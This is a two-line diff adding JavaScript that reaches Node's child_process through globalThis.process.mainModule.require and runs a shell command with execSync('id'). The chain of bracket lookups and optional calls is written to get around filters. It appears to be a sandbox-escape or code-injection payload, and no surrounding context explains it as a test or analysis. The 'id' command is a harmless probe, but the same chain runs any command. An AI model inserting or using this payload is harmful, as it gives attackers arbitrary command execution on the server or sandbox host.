@@ -1,0 +1,2 @@
+const g = globalThis;
+g?.['process']?.mainModule?.['require']?.('child_process')?.execSync?.('id');
